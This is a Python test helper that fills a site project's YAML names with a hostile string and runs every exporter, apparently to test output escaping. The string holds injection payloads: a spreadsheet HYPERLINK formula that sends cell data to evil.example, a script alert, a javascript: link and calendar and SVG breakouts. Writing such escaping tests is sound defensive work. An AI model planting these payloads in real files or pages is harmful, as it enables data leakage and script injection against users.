"""A project whose every name is hostile, for all that is taken away."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

from storysite.exports.calendar import write_calendar
from storysite.exports.decks import write_slides
from storysite.exports.figure_images import write_pictures
from storysite.exports.record_json import write_items
from storysite.exports.tables import write_data
from storysite.pages.markdown_pages import write_twins
from storysite.project import Project
from storysite.records.field_types import LONGEST_WORDS
from tests.conftest import ROOT
from tests.projects import make, read

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"x") <script>alert(1)</script> </text></svg> [x](javascript:alert(1)) '
    "![p](https://evil.example/p.png) | # * _ ` ~ \\ $ % ^ & ' ; BEGIN:VEVENT , ]]> --> https://evil.example"
)
NAMES = re.compile(
    r"^(?P<key>\s*(?:- )?(?:title|name|corner|unit|basis|publisher|alt)): (?P<value>[^>\n]+)$", re.MULTILINE
)
MAKERS = (write_items, write_data, write_twins, write_calendar, write_pictures, write_slides)


def hostile_project(folder: Path) -> Project:
    """The base project with a hostile text in front of every name."""
    root = make({}, folder)
    shutil.copytree(ROOT / "docs" / "assets", root / "docs" / "assets")
    for path in sorted((root / "docs" / "data").glob("*.yml")):
        text = path.read_text(encoding="utf-8")
        path.write_text(
            NAMES.sub(
                lambda match: f"{match['key']}: {json.dumps(hostile_words(match['value'].strip(chr(34))))}", text
            ),
            encoding="utf-8",
        )
    return read(root)


def hostile_words(value: str) -> str:
    return f"{HOSTILE} {value}"[:LONGEST_WORDS]


def taken_away(project: Project, site: Path) -> Path:
    """All that can be taken away from a project, in a folder."""
    for make_files in MAKERS:
        make_files(site, project)
    return site
